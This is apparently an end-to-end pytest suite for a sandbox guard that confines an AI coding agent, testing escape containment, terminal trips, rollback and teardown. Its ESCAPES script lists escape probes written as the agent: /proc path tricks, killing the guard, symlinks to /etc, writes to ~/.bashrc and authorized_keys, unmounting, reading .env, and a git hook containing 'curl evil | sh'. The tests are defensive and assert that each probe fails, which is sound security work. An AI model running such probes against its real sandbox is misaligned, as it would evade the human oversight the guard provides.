"""``guard run`` end to end: real bubblewrap, real Landlock, real processes, real signals."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pexpect
import psutil
import pytest

from .helpers import FIX_TAX, FORBIDDEN_TERMINAL, reports, snapshot, wait_for

MANIFEST = FIX_TAX + FORBIDDEN_TERMINAL  # these tests are about what a terminal trip does


def workspace(tmp_path: Path) -> tuple[Path, Path]:
    """A small repository and a manifest for it."""
    ws = tmp_path / "ws"
    (ws / "src/checkout").mkdir(parents=True)
    (ws / "src/checkout/tax.py").write_text("def total(x):\n    return x\n")
    (ws / "README.md").write_text("readme\n")
    (ws / ".env").write_text("SECRET=1\n")
    subprocess.run(["git", "init", "-q"], cwd=ws, check=True)
    manifest = tmp_path / "manifest.toml"
    manifest.write_text(MANIFEST)
    return ws, manifest


def guard_run(manifest: Path, ws: Path, run_dir: Path, script: str, *flags: str,
              env: dict[str, str] | None = None, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """``guard run`` a Python script as the agent, from inside the workspace."""
    return subprocess.run(
        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), *flags,
         "--", sys.executable, "-c", textwrap.dedent(script)],
        cwd=ws, capture_output=True, text=True, timeout=timeout, env=env, stdin=subprocess.DEVNULL,
    )


ESCAPES = """
    import ctypes, errno, json, os, signal, sys
    results = {}
    def attempt(name, fn):
        try:
            fn()
            results[name] = "SUCCEEDED"
        except OSError as err:
            results[name] = errno.errorcode.get(err.errno, str(err.errno))
        print(json.dumps({name: results[name]}), flush=True)
    def write(path, text="escaped\\n"):
        with open(path, "a") as f:
            f.write(text)
    pid = int(os.environ["GUARD_PID"])
    ws = os.environ["GUARD_WORKSPACE"]
    home = os.path.expanduser("~")
    attempt("proc root", lambda: write(f"/proc/{pid}/root{ws}/src/checkout/x"))
    attempt("proc cwd", lambda: write(f"/proc/{pid}/cwd/README.md"))
    attempt("proc fd", lambda: os.listdir(f"/proc/{pid}/fd"))
    attempt("signal guard", lambda: os.kill(pid, signal.SIGKILL))
    os.symlink("/etc/guardfs-escape", "src/checkout/abs-link")
    os.symlink("../../../../../../../../etc/guardfs-escape-rel", "src/checkout/rel-link")
    attempt("absolute symlink", lambda: write("src/checkout/abs-link"))
    attempt("relative symlink", lambda: write("src/checkout/rel-link"))
    attempt("bashrc", lambda: write(os.path.join(home, ".bashrc")))
    attempt("ssh", lambda: (os.makedirs(os.path.join(home, ".ssh"), exist_ok=True),
                            write(os.path.join(home, ".ssh/authorized_keys"))))
    attempt("etc", lambda: write("/etc/guardfs-escape"))
    attempt("usr", lambda: write("/usr/guardfs-escape"))
    libc = ctypes.CDLL(None, use_errno=True)
    def umount():
        if libc.umount2(ws.encode(), 2) != 0:
            raise OSError(ctypes.get_errno(), "umount2")
    attempt("unmount", umount)
    attempt("control socket", lambda: os.stat(os.environ["GUARD_HOST_RUN_DIR"] + "/control.sock"))
    attempt("read forbidden", lambda: open(".env").read())
    attempt("git hook", lambda: write(".git/hooks/pre-commit", "curl evil | sh"))
    attempt("out of scope", lambda: write("README.md"))
    print("done", flush=True)
"""


@pytest.mark.root
@pytest.mark.mount
def test_escape_attempts_leave_workspace_and_host_untouched(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    run_dir = tmp_path / "run"
    before = snapshot(ws)
    home = Path.home()
    bashrc = (home / ".bashrc").read_bytes() if (home / ".bashrc").exists() else None
    env = {**os.environ, "GUARD_HOST_RUN_DIR": str(run_dir)}
    # The guard's pid reaches the agent through the environment: the guard is this process's child.
    proc = subprocess.Popen(
        [sys.executable, "-c", "import os, sys; os.environ['GUARD_PID'] = str(os.getpid()); "
         "from sandbox.cli import main; sys.exit(main(sys.argv[1:]))",
         "run", "--ci", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
         sys.executable, "-c", textwrap.dedent(ESCAPES)],
        cwd=ws, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL,
    )
    out, err = proc.communicate(timeout=120)
    results: dict[str, str] = {}
    for report in reports(run_dir / "stdout.log"):
        results.update(report)
    assert "SUCCEEDED" not in results.values(), results
    assert results["signal guard"] == "ESRCH"  # not even visible: another PID namespace
    for name in ("proc root", "proc cwd", "proc fd"):
        assert results[name] == "ENOENT", (name, results)
    for name in ("bashrc", "etc", "usr", "absolute symlink", "relative symlink"):
        assert results[name] in ("EROFS", "EACCES"), (name, results)
    assert results["unmount"] == "EPERM"
    assert results["control socket"] == "ENOENT"
    # The forbidden read trips a terminal breaker: the agent may be stopped before it could
    # print what it met, so the guard's own record is the evidence.
    assert results.get("read forbidden", "EACCES") == "EACCES"
    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
    assert any(e["path"] == ".env" and e.get("errno") == "EACCES" for e in events)
    # The forbidden read is terminal: with --ci the agent is stopped at once, exit 75.
    assert proc.returncode == 75, err
    assert "OPEN_FORBIDDEN_PATH" in err
    after = snapshot(ws)
    new = set(after) - set(before)
    assert new <= {"src/checkout/abs-link", "src/checkout/rel-link"}
    # Everything that was there is byte for byte the same (src/checkout/ gained the two links).
    assert {k: v for k, v in after.items() if k in before and k != "src/checkout"} == {
        k: v for k, v in before.items() if k != "src/checkout"}
    assert not Path("/etc/guardfs-escape").exists() and not Path("/etc/guardfs-escape-rel").exists()
    assert not Path("/usr/guardfs-escape").exists()
    assert ((home / ".bashrc").read_bytes() if (home / ".bashrc").exists() else None) == bashrc
    assert not (ws / ".git/hooks/pre-commit").exists()
    assert len(out) <= 1200


@pytest.mark.root
@pytest.mark.mount
def test_kill_9_of_the_guard_fails_closed_and_leaves_nothing(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    run_dir = tmp_path / "run"
    script = """
        import os, time
        for i in range(10000):
            with open(f"src/checkout/f{i}.py", "w") as f:
                f.write(f"v = {i}\\n")
            print("wrote", i, flush=True)
            time.sleep(0.02)
    """
    def guardfs_mounts() -> set[str]:  # the host's (not this run's namespace's)
        with open("/proc/self/mountinfo", encoding="utf-8") as f:
            return {line for line in f if "guardfs" in line}

    def this_runs(mounts: set[str]) -> set[str]:
        """The mounts of this test's guard: at its workspace or in its staging directory (named
        by its pid). Other guards (another pytest-xdist worker's) may mount and unmount meanwhile."""
        return {line for line in mounts if str(tmp_path) in line or f".{proc.pid}-" in line}

    before = guardfs_mounts()  # another suite's or user's guard is not this test's to judge
    proc = subprocess.Popen(
        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
         sys.executable, "-c", textwrap.dedent(script) + "# guardfs-kill9-marker"],
        cwd=ws, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
    )
    wait_for(lambda: len(list((ws / "src/checkout").glob("f*.py"))) >= 5, "the agent to write through the mount")
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)

    def agents() -> list[psutil.Process]:
        return [p for p in psutil.process_iter(["cmdline"])
                if "guardfs-kill9-marker" in " ".join(p.info["cmdline"] or [])]

    wait_for(lambda: not agents(), "the agent's processes to die with the guard")
    written = sorted(p.name for p in (ws / "src/checkout").glob("f*.py"))
    assert sorted(p.name for p in (ws / "src/checkout").glob("f*.py")) == written  # no writer is left
    assert this_runs(guardfs_mounts() - before) == set()  # the mount lived in the guard's own namespace
    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
    created = {e["path"] for e in events if e["op"] == "create"}
    assert created >= {f"src/checkout/{n}" for n in written[:-1]}  # everything up to the kill


@pytest.mark.root
@pytest.mark.mount
def test_noisy_command_is_recorded_byte_exact_with_a_short_digest(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    run_dir = tmp_path / "run"
    script = """
        import sys
        out, err = sys.stdout.buffer, sys.stderr.buffer
        for i in range(1_000_000):
            out.write(b"line %d of the flood\\n" % i)
            if i % 10 == 0:
                err.write(b"warn %d\\r\\n" % i)
        out.flush()
        err.flush()
        assert 0.1 + 0.2 == 0.3, "rounding: total(0.1 + 0.2) != 0.3"
    """
    result = guard_run(manifest, ws, run_dir, script, "--ci", timeout=300)
    assert result.returncode == 1
    expected_out = b"".join(b"line %d of the flood\n" % i for i in range(1_000_000))
    assert (run_dir / "stdout.log").read_bytes() == expected_out
    err_log = (run_dir / "stderr.log").read_bytes()
    assert err_log.startswith(b"".join(b"warn %d\r\n" % i for i in range(0, 1_000_000, 10)))
    assert b"AssertionError: rounding" in err_log
    assert len(result.stdout) <= 1200
    assert "AssertionError: rounding: total(0.1 + 0.2) != 0.3" in result.stdout
    assert str(run_dir / "stdout.log") in result.stdout
    assert "line 5 of the flood" not in result.stdout


@pytest.mark.root
@pytest.mark.mount
def test_interactive_program_works_through_a_pty(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    run_dir = tmp_path / "run"
    child = pexpect.spawn(
        sys.executable,
        ["-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
         "sh", "-c", 'test -t 0 && test -t 1 && printf "name? " && read name && echo "hello, $name"'],
        cwd=str(ws), timeout=60, encoding="utf-8",
    )
    child.expect_exact("name? ")
    child.sendline("agent")
    child.expect_exact("hello, agent")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert "hello, agent" in (run_dir / "stdout.log").read_text()
    # The guard's files in the run directory are 0600, the empty stderr.log of a pty run too.
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in run_dir.iterdir() if p.is_file()}
    assert set(modes) >= {"stdout.log", "stderr.log", "events.jsonl", "ledger.json"}
    assert all(mode == 0o600 for mode in modes.values()), modes


@pytest.mark.root
@pytest.mark.mount  # guard run checks /dev/fuse before bubblewrap
def test_usage_errors_and_missing_isolation(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    base = [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest)]
    assert subprocess.run([*base, "--run-dir", str(tmp_path / "r1")], cwd=ws, capture_output=True).returncode == 64
    inside = subprocess.run([*base, "--run-dir", str(ws / "run"), "--", "true"], cwd=ws, capture_output=True,
                            text=True)
    assert inside.returncode == 64 and "outside the workspace" in inside.stderr
    bad = tmp_path / "bad.toml"
    bad.write_text("[task]\nid = 'x'\n")
    assert subprocess.run([sys.executable, "-m", "sandbox", "run", "--manifest", str(bad), "--", "true"],
                          cwd=ws, capture_output=True).returncode == 65
    # Without bubblewrap on PATH, guard run refuses to start (69) and says what is missing.
    env = {**os.environ, "PATH": "/nonexistent"}
    proc = subprocess.run([*base, "--run-dir", str(tmp_path / "r2"), "--", "/bin/true"], cwd=ws,
                          capture_output=True, text=True, env=env)
    assert proc.returncode == 69 and "bubblewrap is not installed" in proc.stderr


@pytest.mark.root
@pytest.mark.mount
def test_agent_status_env_and_cwd(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    run_dir = tmp_path / "run"
    script = """
        import os, sys
        print(os.getcwd(), os.environ["GUARD_SOCKET"], os.environ["GUARD_RUN_DIR"], flush=True)
        from sandbox.breaker.client import GuardClient
        with GuardClient() as guard:
            print(guard.hello("test")["state"], flush=True)
            guard.step(tokens_in=1234, tokens_out=100)
        open("tax.py", "a").write("# touched\\n")
        sys.exit(7)
    """
    result = subprocess.run(
        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir),
         "--workspace", str(ws), "--", sys.executable, "-c", textwrap.dedent(script)],
        cwd=ws / "src/checkout", capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
    )
    assert result.returncode == 7, result.stderr
    cwd, sock, rundir = result.stdout.split("\n")[0].split()
    assert cwd == str(ws / "src/checkout") and sock == "/tmp/guard/agent.sock" and rundir == "/tmp/guard"
    assert "CLOSED" in result.stdout
    assert "files mutated: 1 (src/checkout/tax.py)" in result.stderr
    assert "tokens: 1334 in 1 steps" in result.stderr
    assert (ws / "src/checkout/tax.py").read_text().endswith("# touched\n")
    ledger = json.loads((run_dir / "ledger.json").read_text())
    assert ledger["tokens"]["total"] == 1334


@pytest.mark.root
@pytest.mark.mount
def test_a_writable_directory_that_does_not_exist_is_said_at_start(tmp_path: Path) -> None:
    """`[sandbox] writable = ["~/.npm"]` before npm ever ran: the directory is skipped, and the
    start banner says so with the fix (it was silent: npm install then failed inside, unexplained)."""
    ws, manifest = workspace(tmp_path)
    there, missing = tmp_path / "cache-there", tmp_path / "home/.npm"
    there.mkdir()
    manifest.write_text(MANIFEST + f'[sandbox]\nwritable = ["{there}", "{missing}"]\n')
    script = f"""
        import os
        open("{there}/ok", "w").write("x")
        try:
            os.makedirs("{missing}")
        except OSError as err:
            print("refused", err.strerror, flush=True)
    """
    result = guard_run(manifest, ws, tmp_path / "run", script)
    assert result.returncode == 0, result.stderr
    # Nothing the agent did reached the host there (refused on a read-only host path; under /tmp,
    # where pytest's base temp usually is, it lands in the sandbox's own /tmp instead).
    assert (there / "ok").read_text() == "x" and not missing.exists()
    said = [line for line in result.stderr.splitlines() if "[sandbox] writable" in line]
    assert said == [f"guard: [sandbox] writable names what does not exist, so the agent cannot write there in this "
                    f"run: {missing} (create it before the run: mkdir -p {missing})"], result.stderr


@pytest.mark.root
@pytest.mark.mount
def test_rollback_after_create_modify_delete_rename(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    (ws / "src/checkout/old.py").write_text("OLD = 1\n")
    (ws / "src/checkout/pkg").mkdir()
    (ws / "src/checkout/pkg/mod.py").write_text("M = 1\n")
    os.chmod(ws / "src/checkout/old.py", 0o640)
    before = snapshot(ws)
    run_dir = tmp_path / "run"
    script = """
        import os
        os.makedirs("src/checkout/new/deep")
        open("src/checkout/new/deep/created.py", "w").write("C = 1\\n")       # create
        open("src/checkout/tax.py", "a").write("# modified\\n")               # modify
        os.unlink("src/checkout/old.py")                                       # delete
        os.rename("src/checkout/pkg", "src/checkout/pkg2")                     # rename a directory
        open("src/checkout/pkg2/mod.py", "w").write("M = 2\\n")
        os.rename("src/checkout/new/deep/created.py", "src/checkout/moved.py")  # rename a file
    """
    result = guard_run(manifest, ws, run_dir, script, "--ci")
    assert result.returncode == 0, result.stderr
    assert snapshot(ws) != before
    rolled = subprocess.run([sys.executable, "-m", "sandbox", "rollback", "--run-dir", str(run_dir)],
                            capture_output=True, text=True, timeout=60)
    assert rolled.returncode == 0, rolled.stderr
    after = snapshot(ws)
    # Byte for byte and mode for mode (directory times aside: the kernel sets them).
    strip = {k: (v[0], v[1]) for k, v in before.items()}
    assert {k: (v[0], v[1]) for k, v in after.items()} == strip


@pytest.mark.root
@pytest.mark.mount
def test_terminal_trip_freezes_then_rollback_and_approve_resume(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    manifest.write_text(MANIFEST + 'on_terminal = "freeze"\n')  # asked for: no terminal on the guard's side here
    run_dir = tmp_path / "run"
    script = """
        import time
        from sandbox.breaker.client import GuardClient
        open("src/checkout/tax.py", "w").write("def total(x):\\n    return -x\\n")
        for name in ("README.md", "NOTES.md"):  # out of scope twice: HALF_OPEN, then terminal
            try:
                with open(name, "a") as f:
                    f.write("spill")
            except OSError as err:
                print("refused:", err.strerror, flush=True)
        with GuardClient() as guard:
            while guard.status()["state"] != "CLOSED":
                time.sleep(0.05)
        print("after approve:", open("src/checkout/tax.py").read().splitlines()[-1].strip(), flush=True)
    """
    proc = subprocess.Popen(
        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
         sys.executable, "-c", textwrap.dedent(script) + "# guardfs-freeze-marker"],
        cwd=ws, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True,
    )
    try:
        def agent_stopped() -> bool:
            return any(p.status() == psutil.STATUS_STOPPED for p in psutil.process_iter(["cmdline"])
                       if "guardfs-freeze-marker" in " ".join(p.info["cmdline"] or []))

        wait_for(agent_stopped, "the agent to be frozen after the terminal trip")
        assert (ws / "src/checkout/tax.py").read_text() == "def total(x):\n    return -x\n"
        cli = [sys.executable, "-m", "sandbox"]
        rolled = subprocess.run([*cli, "rollback", "--run-dir", str(run_dir)], capture_output=True, text=True)
        assert rolled.returncode == 0 and "restored" in rolled.stdout, rolled.stderr
        assert (ws / "src/checkout/tax.py").read_text() == "def total(x):\n    return x\n"
        assert subprocess.run([*cli, "approve", "--run-dir", str(run_dir)], capture_output=True).returncode == 0
        _out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 0, err
    log = (run_dir / "stdout.log").read_text()
    assert log.count("refused: Read-only file system") == 2
    assert "after approve: return x" in log  # the agent sees the rolled-back file through the mount
    assert "frozen" in err and "approved: the agent resumes" in err
    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
    assert [e["paths"] for e in events if e["op"] == "rollback" and e["path"] == ""] == [1]  # one rollback, one event


@pytest.mark.root
@pytest.mark.mount
def test_a_terminal_trip_halts_the_agent_before_its_call_returns(tmp_path: Path) -> None:
    """The tree is frozen inside the request that trips, so the agent cannot run on (here:
    print) between the trip and the guard's stop, however fast it is."""
    ws, manifest = workspace(tmp_path)
    script = """
        import sys
        try:
            open(".env").read()  # forbidden: a terminal trip by default
        except OSError as err:
            print("refused:", err.strerror, flush=True)
        for i in range(200000):
            print("ran on", i, flush=True)
    """
    run = guard_run(manifest, ws, tmp_path / "run", script, "--ci")
    assert run.returncode == 75, run.stderr
    log = (tmp_path / "run/stdout.log").read_text()
    assert "ran on" not in log and "refused" not in log, log[:300]
    assert "OPEN_FORBIDDEN_PATH" in run.stderr


@pytest.mark.root
@pytest.mark.mount
def test_guard_exec_quarantines_a_command_and_reports_it(tmp_path: Path) -> None:
    ws, manifest = workspace(tmp_path)
    run_dir = tmp_path / "run"
    script = """
        import subprocess, sys
        for code in (3, 4):
            r = subprocess.run(["guard", "exec", "--", sys.executable, "-c",
                                f"print('x' * 100000); raise SystemExit({code})"], capture_output=True, text=True)
            print("exec status", r.returncode, "digest chars", len(r.stdout), flush=True)
        r = subprocess.run(["guard", "exec", "--", "sh", "-c", "echo '1 passed' && : pytest"], capture_output=True,
                           text=True)
        print("exec status", r.returncode, flush=True)
    """
    result = guard_run(manifest, ws, run_dir, script, "--ci")
    assert result.returncode == 0, result.stderr
    log = (run_dir / "stdout.log").read_text()
    assert "exec status 3 digest chars" in log and "exec status 4" in log and "exec status 0" in log
    assert all(int(line.split()[-1]) <= 1200 for line in log.splitlines() if "digest chars" in line)
    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
    results = [e["exit_code"] for e in events if e["op"] == "tool_result"]
    assert results == [3, 4, 0]
    assert any(e["op"] == "checkpoint" for e in events)  # the passing test marked one
    ledger = json.loads((run_dir / "ledger.json").read_text())
    assert ledger["consecutive_failures"] == 0


UNPRIVILEGED_PYTHON = "/usr/bin/python3"
UNPRIVILEGED = "65534"  # nobody


def _copy_installation(dest: Path) -> str:
    """Copy guardfs, sandbox and their runtime dependencies to *dest*, for a user who may not
    read this checkout or its virtualenv (CI's live under /root); returns a PYTHONPATH."""
    from importlib import metadata

    from packaging.requirements import Requirement

    import sandbox

    here = Path(sandbox.__file__).resolve().parent.parent
    for package in ("guardfs", "sandbox"):
        shutil.copytree(here / package, dest / package, ignore=shutil.ignore_patterns("__pycache__"))
    todo, seen = ["pyfuse3", "trio", "psutil", "pydantic", "pathspec", "dulwich"], set()
    while todo:
        dist = metadata.distribution(todo.pop())
        name = dist.metadata["Name"].lower()
        if name in seen:
            continue
        seen.add(name)
        for top in {Path(str(f)).parts[0] for f in dist.files or []} - {"..", "__pycache__"}:
            src = Path(str(dist.locate_file(top)))
            if src.is_dir() and not (dest / top).exists():
                shutil.copytree(src, dest / top, ignore=shutil.ignore_patterns("__pycache__"))
            elif src.is_file():
                shutil.copy2(src, dest / top)
        for line in dist.requires or []:
            req = Requirement(line)
            if req.marker is None or req.marker.evaluate({"extra": ""}):  # not extras, not other Pythons
                todo.append(req.name)
    return str(dest)


@contextlib.contextmanager
def _fuse_open_to_others() -> Iterator[None]:
    """/dev/fuse read-write for other users while the block runs (as Debian ships it, 0666),
    then its mode as it was."""
    mode = stat.S_IMODE(os.stat("/dev/fuse").st_mode)
    os.chmod("/dev/fuse", mode | 0o006)  # noqa: S103 - the point of the test; restored below
    try:
        yield
    finally:
        os.chmod("/dev/fuse", mode)


@pytest.mark.usefixtures("dev_fuse_mode_to_myself")  # it chmods /dev/fuse (see conftest.py)
@pytest.mark.root
@pytest.mark.mount
def test_unprivileged_guard_run() -> None:
    """The whole of guard run as an unprivileged user (uid 65534): fusermount3, bubblewrap in a
    user namespace, Landlock. The test opens /dev/fuse to users for its duration."""
    base = Path(tempfile.mkdtemp(prefix="guardfs-unpriv-"))  # under /tmp: reachable by the user
    try:
        os.chmod(base, 0o755)  # noqa: S103 - the other user must reach it
        pythonpath = _copy_installation(base / "lib")
        ws, manifest = workspace(base)
        (ws / "src/checkout/node_modules/dep").mkdir(parents=True)  # a generated tree, bound natively
        (ws / "src/checkout/node_modules/dep/index.js").write_text("module.exports = 1\n")
        subprocess.run(["chown", "-R", f"{UNPRIVILEGED}:{UNPRIVILEGED}", str(base)], check=True)
        user = ["setpriv", "--reuid", UNPRIVILEGED, "--regid", UNPRIVILEGED, "--clear-groups", UNPRIVILEGED_PYTHON]
        env = {**os.environ, "PYTHONPATH": pythonpath, "HOME": str(base)}
        mode = stat.S_IMODE(os.stat("/dev/fuse").st_mode)
        with _fuse_open_to_others():
            probe = subprocess.run([*user, "-c", "import os; os.close(os.open('/dev/fuse', os.O_RDWR)); "
                                    "import pyfuse3, sandbox.launch.run"],
                                   capture_output=True, text=True, env=env, cwd=base)
            assert probe.returncode == 0, probe.stderr
            result = subprocess.run(
                [*user, "-m", "sandbox", "run", "--ci", "--manifest", str(manifest), "--run-dir", str(base / "run"),
                 "--", "sh", "-c", "echo '# ok' >> src/checkout/tax.py; echo x > README.md || echo refused; "
                 "id -u; rm -rf src/checkout/node_modules && echo removed; exit 3"],
                cwd=ws, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL, env=env,
            )
        assert stat.S_IMODE(os.stat("/dev/fuse").st_mode) == mode
        assert result.returncode == 3, result.stderr  # the agent's own status, through a clean teardown
        assert "Traceback" not in result.stderr, result.stderr
        assert (ws / "src/checkout/tax.py").read_text().endswith("# ok\n")
        assert (ws / "README.md").read_text() == "readme\n"
        log = (base / "run/stdout.log").read_text()
        assert log.splitlines() == ["refused", UNPRIVILEGED, "removed"], (log, result.stderr)
        assert not (ws / "src/checkout/node_modules").exists()
        assert "Read-only file system" in (base / "run/stderr.log").read_text()
        assert "unprivileged run" in result.stderr
        with open("/proc/self/mountinfo", encoding="utf-8") as f:
            assert str(base) not in f.read()  # fusermount3's own unmount: in the host's namespace
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.mark.root
@pytest.mark.mount
def test_agent_as_a_non_root_user_under_a_root_guard(tmp_path: Path) -> None:
    """The devcontainer case on the host: the guard is root, the agent runs as uid 65534."""
    ws, manifest = workspace(tmp_path)
    subprocess.run(["chown", "-R", "65534:65534", str(ws)], check=True)
    run_dir = tmp_path / "run"
    result = subprocess.run(
        [sys.executable, "-m", "sandbox", "run", "--ci", "--user", "nobody", "--manifest", str(manifest),
         "--run-dir", str(run_dir), "--", "sh", "-c",
         "id -u; echo '# by nobody' >> src/checkout/tax.py; touch /tmp/ok && echo tmp; echo again > /dev/stdout; "
         "echo x > README.md; cat .env"],
        cwd=ws, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
    )
    log = (run_dir / "stdout.log").read_text()
    assert log.splitlines()[0] == "65534", (log, result.stderr)
    assert (ws / "src/checkout/tax.py").read_text().endswith("# by nobody\n")
    assert (ws / "src/checkout/tax.py").stat().st_uid == 65534
    assert (ws / "README.md").read_text() == "readme\n"
    assert "tmp" in log.splitlines()
    # Its output opened again by name (aider logs its analytics to /dev/stdout): its pipe is its own.
    assert "again" in log.splitlines(), (log, (run_dir / "stderr.log").read_text())
    assert result.returncode == 75  # the forbidden read is terminal, and --ci stops the run
    bad = subprocess.run([sys.executable, "-m", "sandbox", "run", "--user", "no-such-user-x", "--manifest",
                          str(manifest), "--", "true"], cwd=ws, capture_output=True, text=True)
    assert bad.returncode == 64 and "no such user" in bad.stderr


@pytest.mark.root
@pytest.mark.parametrize("how", ["guard stop", "SIGINT"])
@pytest.mark.mount
def test_stop_ends_a_double_forked_tree_that_ignores_sigterm(tmp_path: Path, how: str) -> None:
    ws, manifest = workspace(tmp_path)
    run_dir = tmp_path / "run"
    script = """
        import os, signal, time
        if os.fork() == 0:                 # double fork: the grandchild is re-parented
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                while True:
                    time.sleep(1)
            os._exit(0)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        print("ready", flush=True)
        while True:
            time.sleep(1)
    """
    marker = f"guardfs-stop-marker-{how.replace(' ', '-')}"
    proc = subprocess.Popen(
        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
         sys.executable, "-c", textwrap.dedent(script) + f"# {marker}"],
        cwd=ws, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True,
    )

    def members() -> list[psutil.Process]:
        return [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]

    try:
        wait_for(lambda: len(members()) >= 2 and (run_dir / "stdout.log").exists()
                 and "ready" in (run_dir / "stdout.log").read_text(), "the agent and its grandchild")
        if how == "guard stop":
            subprocess.run([sys.executable, "-m", "sandbox", "stop", "--run-dir", str(run_dir)], check=True,
                           capture_output=True)
        else:
            proc.send_signal(signal.SIGINT)
        _out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == (75 if how == "guard stop" else 128 + signal.SIGINT), err
    wait_for(lambda: not members(), "every process of the tree to be gone")
    assert not (run_dir / "agent.sock").exists() and not (run_dir / "control.sock").exists()
